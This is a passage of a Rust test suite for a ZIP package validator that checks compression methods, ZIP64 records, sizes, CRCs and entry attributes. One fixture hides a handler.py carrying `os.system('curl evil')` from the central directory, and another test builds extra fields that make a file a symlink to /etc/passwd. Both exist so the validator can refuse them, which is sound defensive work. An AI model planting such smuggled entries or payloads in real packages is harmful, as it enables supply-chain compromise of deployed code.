    assert_eq!(refuse_rule(&zip(vec![E::stored("a", b"x").with(|e| e.disk = 1)])), Rule::MultiDisk);
}

#[test]
fn only_stored_and_deflate_are_accepted() {
    for (method, name) in
        [(12, "bzip2"), (14, "LZMA"), (93, "Zstandard"), (95, "XZ"), (9, "Deflate64"), (1234, "an unknown method")]
    {
        let err = refuse(&zip(vec![E::stored("a", b"x").with(|e| e.method = method)]));
        assert_eq!(err.rule, Rule::UnsupportedMethod { method });
        assert!(err.to_string().contains(&format!("compressed with {name} (method {method})")), "{err}");
    }
    let z = zip(vec![E::stored("a", b"x").with(|e| e.flags |= 1 << 5)]);
    assert!(matches!(refuse_rule(&z), Rule::UnsupportedFlags { .. }));
}

// ---------------------------------------------------------------------------------------
// ZIP64.

#[test]
fn inconsistent_zip64_is_refused() {
    // Extra field longer than the markers call for.
    let z = zip(vec![E::stored("a", b"x").with(|e| e.zip64_extra = Some(vec![0; 8]))]);
    assert!(matches!(refuse_rule(&z), Rule::Zip64 { .. }));
    // Markers without the extra field's values.
    let z = zip(vec![E::stored("a", b"x").with(|e| {
        e.zip64 = true;
        e.zip64_extra = Some(vec![0; 16]);
    })]);
    assert!(matches!(refuse_rule(&z), Rule::Zip64 { .. }));
    // A marker without any ZIP64 extra field.
    let z = zip(vec![E::stored("a", b"x").with(|e| e.csize = Some(u64::from(u32::MAX)))]);
    assert!(matches!(refuse_rule(&z), Rule::Zip64 { .. }));
    // Locator pointing elsewhere.
    let z = zip(sample()).with(|z| z.zip64_end = true).with(|z| z.zip64_locator_delta = -4);
    assert!(matches!(refuse_rule(&z), Rule::Zip64 { .. }));
    // Classic record disagreeing with the ZIP64 record.
    let z = zip(sample()).with(|z| z.zip64_end = true).with(|z| z.count = Some(2));
    assert!(matches!(refuse_rule(&z), Rule::Zip64 { .. }));
    // ZIP64 values in the extra field that disagree with the local header.
    let z = zip(vec![E::stored("a", b"abc").with(|e| {
        e.zip64 = true;
        let mut v = Vec::new();
        u64le(&mut v, 3);
        u64le(&mut v, 3);
        u64le(&mut v, 0);
        e.zip64_extra = Some(v);
        e.local_usize = Some(4);
    })]);
    assert!(matches!(refuse_rule(&z), Rule::LocalMismatch { field: "uncompressed size", .. }));
}

// ---------------------------------------------------------------------------------------
// Data: sizes, CRC-32, trailing bytes, limits.

#[test]
fn declared_sizes_must_match_the_data() {
    let data = vec![0u8; 1 << 20];
    // The data exceeds its declared size: inflation stops one byte past it.
    let z = zip(vec![E::deflated("a", &data).with(|e| e.usize = Some(1000))]);
    assert_eq!(refuse_rule(&z), Rule::SizeExceeded { declared: 1000 });
    // The data falls short of it.
    let z = zip(vec![E::deflated("a", &data).with(|e| e.usize = Some(2 << 20))]);
    assert_eq!(refuse_rule(&z), Rule::SizeShort { declared: 2 << 20, actual: 1 << 20 });
    // Stored entries must declare equal sizes.
    let z = zip(vec![E::stored("a", b"abc").with(|e| e.usize = Some(4))]);
    assert_eq!(refuse_rule(&z), Rule::StoredSizes { compressed: 3, uncompressed: 4 });
    // Directories carry no data.
    let z = zip(vec![E::dir("d/").with(|e| e.data = b"hidden".to_vec())]);
    assert_eq!(refuse_rule(&z), Rule::DirectoryWithData { size: 6 });
}

#[test]
fn crc_mismatches_are_refused() {
    for e in [E::stored("a", b"abc"), E::deflated("a", b"abc")] {
        let z = zip(vec![e.with(|e| e.crc = Some(0xdead_beef))]);
        assert!(matches!(refuse_rule(&z), Rule::CrcMismatch { declared: 0xdead_beef, .. }));
    }
}

#[test]
fn the_deflate_stream_must_end_at_the_compressed_size() {
    let mut c = deflate(b"text");
    c.extend_from_slice(b"hidden");
    let z = zip(vec![E::deflated("a", b"text").with(|e| e.compressed = Some(c))]);
    assert_eq!(refuse_rule(&z), Rule::TrailingCompressedData { len: 6 });
    let c = deflate(b"text text text text");
    let z =
        zip(vec![E::deflated("a", b"text text text text").with(|e| e.compressed = Some(c[..c.len() - 3].to_vec()))]);
    assert!(matches!(refuse_rule(&z), Rule::CorruptData { .. }));
}

#[test]
fn the_unzipped_limit_is_applied_upfront_from_declared_sizes() {
    let small = ZipLimits { max_unzipped: 100, ..limits() };
    let bytes = zip(vec![E::stored("a", &[1; 60]), E::stored("b", &[2; 60])]).build();
    // The tail alone refuses it: no data is read.
    let err = zipcheck::read_tail(&mut Cursor::new(&bytes), &small).unwrap_err();
    let InspectError::Zip(err) = err else { panic!("{err}") };
    assert_eq!(err.rule, Rule::UnzippedTooLarge { actual: 120 });
    assert_eq!(
        err.to_string(),
        format!(
            "{} Make the package smaller, for example by moving dependencies into a layer. [zip rule unzipped-too-large]",
            signer::limits::unzipped_size_message(120)
        )
    );
    // A lying header cannot get past it: the data is bounded by the declared sizes.
    let z = zip(vec![E::deflated("a", &vec![0; 50 << 20]).with(|e| e.usize = Some(50))]);
    let start = std::time::Instant::now();
    assert_eq!(refuse_rule(&z), Rule::SizeExceeded { declared: 50 });
    assert!(start.elapsed().as_secs() < 5);
}

#[test]
fn the_default_limits_are_lambdas() {
    let l = ZipLimits::default();
    assert_eq!(
        (l.max_unzipped, l.max_entries, l.max_name_len, l.max_central_directory),
        (262_144_000, 1_000_000, 1024, 128 << 20)
    );
    let big = zip(vec![E::deflated("a", b"x").with(|e| e.usize = Some(262_144_001))]);
    assert_eq!(refuse_rule(&big), Rule::UnzippedTooLarge { actual: 262_144_001 });
}

// ---------------------------------------------------------------------------------------
// Reading: exactly the entries region, once; I/O errors are I/O errors.

/// A reader that counts what it hands out.
struct Counting<R> {
    inner: R,
    read: u64,
}

impl<R: Read> Read for Counting<R> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        let n = self.inner.read(buf)?;
        self.read += n as u64;
        Ok(n)
    }
}

#[test]
fn check_body_reads_exactly_the_entries_region() {
    let bytes = zip(sample()).build();
    let tail = zipcheck::read_tail(&mut Cursor::new(&bytes), &limits()).unwrap();
    let mut body = Counting { inner: &bytes[..], read: 0 };
    zipcheck::check_body(&tail, &mut body, &limits()).unwrap();
    assert_eq!(body.read, tail.end.central_offset);
}

#[test]
fn reader_failures_are_io_errors_not_refusals() {
    struct Failing;
    impl Read for Failing {
        fn read(&mut self, _: &mut [u8]) -> io::Result<usize> {
            Err(io::Error::other("disk on fire"))
        }
    }
    let bytes = zip(sample()).build();
    let tail = zipcheck::read_tail(&mut Cursor::new(&bytes), &limits()).unwrap();
    let err = zipcheck::check_body(&tail, Failing, &limits()).unwrap_err();
    assert!(matches!(err, InspectError::Io(ref e) if e.to_string() == "disk on fire"), "{err}");
    // A body cut short is an I/O error too: the layout was already checked.
    let err = zipcheck::check_body(&tail, &bytes[..40], &limits()).unwrap_err();
    assert!(matches!(err, InspectError::Io(ref e) if e.kind() == io::ErrorKind::UnexpectedEof), "{err}");
}

#[test]
fn every_single_byte_change_is_handled_without_panicking() {
    let bytes = zip(vec![
        E::deflated("a/b.txt", &b"abc".repeat(20)).streamed(true),
        E::stored("c", b"cc").with(|e| e.zip64 = true),
    ])
    .with(|z| z.zip64_end = true)
    .with(|z| z.comment = b"comment".to_vec())
    .build();
    inspect(&bytes).unwrap();
    for i in 0..bytes.len() {
        for x in [0x00, 0xff, 0x01] {
            let mut changed = bytes.clone();
            changed[i] ^= x;
            let _ = zipcheck::inspect(&mut Cursor::new(&changed), &limits());
        }
        let _ = zipcheck::inspect(&mut Cursor::new(&bytes[..i]), &limits());
    }
}

// ---------------------------------------------------------------------------------------
// What streaming readers see: an entry hidden in stored data, extra fields and attributes
// that change what an entry is (issue 11).

/// The smuggle: a stored entry with a data descriptor whose data holds a fake descriptor
/// (with the right CRC-32 and sizes for the bytes before it) and then a whole local header
/// and data for `handler.py`. The central directory lists only `a.txt` and `handler.py`;
/// a streaming reader that ends stored data at the first matching descriptor sees three.
pub(crate) fn smuggled_handler() -> Zip {
    let decoy = b"harmless text ".to_vec();
    let hidden = b"import os; os.system('curl evil')\n";
    let mut data = decoy.clone();
    u32le(&mut data, 0x0807_4b50);
    u32le(&mut data, crc32fast::hash(&decoy));
    u32le(&mut data, decoy.len() as u32);
    u32le(&mut data, decoy.len() as u32);
    // A local header of a stored handler.py, sizes in the header, then its bytes.
    u32le(&mut data, 0x0403_4b50);
    u16le(&mut data, 20);
    u16le(&mut data, 0);
    u16le(&mut data, 0);
    u32le(&mut data, 0x0021_0000);
    u32le(&mut data, crc32fast::hash(hidden));
    u32le(&mut data, hidden.len() as u32);
    u32le(&mut data, hidden.len() as u32);
    u16le(&mut data, 10);
    u16le(&mut data, 0);
    data.extend_from_slice(b"handler.py");
    data.extend_from_slice(hidden);
    zip(vec![E::stored("a.txt", &data).streamed(true), E::stored("handler.py", b"print('reviewed')\n")])
}

#[test]
fn an_entry_hidden_from_the_central_directory_in_stored_data_is_refused() {
    let err = refuse(&smuggled_handler());
    assert_eq!(err.entry.as_deref(), Some("a.txt"));
    assert_eq!(err.rule, Rule::DescriptorSignatureInData { offset: 14 });
    assert_eq!(err.rule.id(), "descriptor-signature-in-data");
    assert!(err.to_string().contains("store it deflated"), "{err}");
    // The same bytes in a deflated entry, or stored without a descriptor, hide nothing: a
    // streaming reader ends those by the deflate stream or by the header's sizes.
    let data = smuggled_handler().entries[0].data.clone();
    accept(&zip(vec![E::deflated("a.txt", &data).streamed(true)]));
    accept(&zip(vec![E::stored("a.txt", &data)]));
    // A signature split across the gate's reads is found too (1 MiB reads: put it astride).
    let mut big = vec![b'x'; (1 << 20) - 2];
    big.extend_from_slice(b"PK\x07\x08tail");
    let err = refuse(&zip(vec![E::stored("big.bin", &big).streamed(true)]));
    assert_eq!(err.rule, Rule::DescriptorSignatureInData { offset: (1 << 20) - 2 });
}

#[test]
fn a_stored_entry_needs_a_signed_descriptor_and_no_descriptor_may_look_signed() {
    // Without the signature a streaming reader cannot find the end of stored data.
    let err = refuse(&zip(vec![E::stored("a", b"aaaa").streamed(false)]));
    assert!(matches!(&err.rule, Rule::DataDescriptor { problem } if problem.contains("no signature")), "{err}");
    accept(&zip(vec![E::deflated("a", b"aaaa").streamed(false)]));
    // An unsigned descriptor whose CRC-32 is the signature's bytes (CRC-32 is linear, so
    // four bytes with any CRC can be solved for; these were).
    let data = [0xac, 0x0a, 0x7a, 0xd5];
    assert_eq!(crc32fast::hash(&data), 0x0807_4b50);
    let err = refuse(&zip(vec![E::deflated("a", &data).streamed(false)]));
    assert!(matches!(&err.rule, Rule::DataDescriptor { problem } if problem.contains("reads as one")), "{err}");
}

#[test]
fn a_zip64_descriptor_after_a_header_without_zip64_names_the_writer_option() {
    // yazl's forceZip64Format: a 24-byte descriptor, no ZIP64 field in the local header.
    let mut after = Vec::new();
    u32le(&mut after, 0x0807_4b50);
    u32le(&mut after, crc32fast::hash(b"aaaa"));
    let c = deflate(b"aaaa");
    u64le(&mut after, c.len() as u64);
    u64le(&mut after, 4);
    let z = zip(vec![E::deflated("a", b"aaaa").with(|e| {
        e.flags |= 1 << 3;
        e.local_crc = Some(0);
        e.local_csize = Some(0);
        e.local_usize = Some(0);
        e.after = after;
    })]);
    let err = refuse(&z);
    assert!(matches!(&err.rule, Rule::DataDescriptor { problem } if problem.contains("forceZip64Format")), "{err}");
}

#[test]
fn extra_fields_that_can_change_an_entry_are_refused_in_either_header() {
    // libarchive takes a file type from `xl` (0x6c78), and other readers from the ASi
    // (0x756e) and PKWARE Unix (0x000d) fields: a regular file becoming a symlink.
    let mut xl = vec![0x05]; // version made by + external attributes
    u16le(&mut xl, 0x031e);
    u32le(&mut xl, 0o120_777 << 16);
    let mut asi = Vec::new();
    u32le(&mut asi, 0); // CRC
    u16le(&mut asi, 0o120_777);
    u32le(&mut asi, 11);
    u16le(&mut asi, 0);
    u16le(&mut asi, 0);
    asi.extend_from_slice(b"/etc/passwd");
    let mut pkware = vec![0u8; 12];
    pkware.extend_from_slice(b"/etc/passwd");
    for (tag, data) in [(0x6c78u16, xl), (0x756e, asi), (0x000d, pkware)] {
        for local in [true, false] {
            let z = zip(vec![E::stored("config", b"setting=1\n").extra_in(local, extra(tag, &data))]);
            let err = refuse(&z);
            let header = if local { "local" } else { "central" };
            assert!(
                matches!(err.rule, Rule::ExtraField { tag: t, header: h, .. } if t == tag && h == header),
                "{tag:#06x} in the {header} header: {err}"
            );
            assert_eq!(err.rule.id(), "extra-field");
        }
    }
    // An unknown field is refused; the fields real writers write are not.
    let err = refuse(&zip(vec![E::stored("a", b"x").with(|e| e.local_extra = extra(0x4242, b"??"))]));
    assert!(err.to_string().contains("0x4242"), "{err}");
    let mut ut = vec![1];
    u32le(&mut ut, 1_700_000_000);
    let mut ux = vec![1, 4];
    u32le(&mut ux, 1000);
    ux.push(4);
    u32le(&mut ux, 1000);
    let harmless = [extra(0x5455, &ut), extra(0x7875, &ux), extra(0x000a, &[0; 32]), extra(0xcafe, b"")].concat();
    accept(&zip(vec![E::stored("a", b"x").with(|e| {
        e.local_extra = harmless.clone();
        e.central_extra = harmless.clone();
    })]));
    // A jar marker carries nothing.
    assert!(matches!(
        refuse_rule(&zip(vec![E::stored("a", b"x").with(|e| e.local_extra = extra(0xcafe, b"x"))])),
        Rule::ExtraField { tag: 0xcafe, .. }
    ));
}

#[test]
fn an_xl_field_that_repeats_the_central_directory_is_accepted() {
    let file = E::stored("a", b"x");
    let mut xl = vec![0x07];
    u16le(&mut xl, file.made_by);
    u16le(&mut xl, 0);
    u32le(&mut xl, file.external);
    accept(&zip(vec![file.clone().with(|e| e.local_extra = extra(0x6c78, &xl))]));
    // Another host system changes how libarchive reads the attributes.
    let mut other = vec![0x01];
    u16le(&mut other, 0x001e);
    assert!(matches!(
        refuse_rule(&zip(vec![file.with(|e| e.local_extra = extra(0x6c78, &other))])),
        Rule::ExtraField { tag: 0x6c78, header: "local", .. }
    ));
}

#[test]
fn attributes_that_make_an_entry_a_device_or_a_hidden_folder_are_refused() {
    for (mode, what) in [
        (0o010_644, "FIFO"),
        (0o020_644, "character device"),
        (0o060_644, "block device"),
        (0o140_644, "socket"),
        (0o040_755, "directory"),
    ] {
        let err = refuse(&zip(vec![E::stored("dev", b"").with(|e| e.external = mode << 16)]));
        assert!(matches!(&err.rule, Rule::FileType { problem } if problem.contains(what)), "{mode:o}: {err}");
        assert_eq!(err.rule.id(), "file-type");
    }
    let err = refuse(&zip(vec![E::stored("dir", b"").with(|e| e.external = 0x10)]));
    assert!(matches!(&err.rule, Rule::FileType { problem } if problem.contains("MS-DOS")), "{err}");
    // Folders named with "/" and files with a regular mode, or none, are what writers write.
    accept(&zip(vec![E::dir("d/"), E::stored("d/f", b"x").with(|e| e.external = 0), E::stored("g", b"y")]));
}

#[test]
fn the_root_folder_entry_that_bsdtar_writes_is_accepted() {
    // `bsdtar -a -cf fn.zip -C dir .`: a `./` entry, then every name under `./`.
    let inspected = accept(&zip(vec![E::dir("./"), E::dir("./lib/"), E::deflated("./lib/handler.py", b"x = 1\n")]));
    assert_eq!(inspected.entries, 3);
    // It is a folder: with data, or twice, it is refused like any other.
    assert_eq!(refuse_rule(&zip(vec![E::stored("./", b"data")])), Rule::DirectoryWithData { size: 4 });
    assert!(matches!(refuse_rule(&zip(vec![E::dir("./"), E::dir("./")])), Rule::DuplicateName { .. }));
}

#[test]
fn zero_padding_after_the_end_record_is_accepted_up_to_64_kib() {
    let mut bytes = zip(sample()).build();
    let plain = inspect(&bytes).unwrap();
    bytes.resize(bytes.len().next_multiple_of(10_240), 0);
    assert_eq!(inspect(&bytes).unwrap(), plain);
    let tail = zipcheck::read_tail(&mut Cursor::new(&bytes), &limits()).unwrap();
    assert!(tail.end.padding > 0);
    bytes.extend(vec![0; 65_536]);
    assert!(matches!(inspect(&bytes).unwrap_err().rule, Rule::BytesAfterEndRecord { .. }));
}

#[test]
fn more_than_65535_entries_in_zip64_are_accepted() {
    let entries: Vec<E> = (0..70_000).map(|i| E::stored(&format!("f/{i:05}"), b"")).collect();
    let z = zip(entries).with(|z| z.zip64_end = true);
    assert_eq!(accept(&z).entries, 70_000);
}

#[test]
fn a_symlink_mode_counts_only_from_a_unix_host() {
    // Made on MS-DOS or NTFS, the same entry is a plain file to Info-ZIP, libarchive and the
    // zip crate (found by the zip_differential fuzz target).
    for host in [0u16, 10] {
        let z = zip(vec![E::symlink("link", "target").with(|e| e.made_by = (host << 8) | 20)]);
        let err = refuse(&z);
        assert!(matches!(&err.rule, Rule::FileType { problem } if problem.contains("host")), "{err}");
    }
    accept(&zip(vec![E::stored("target", b"t"), E::symlink("link", "target")]));
}
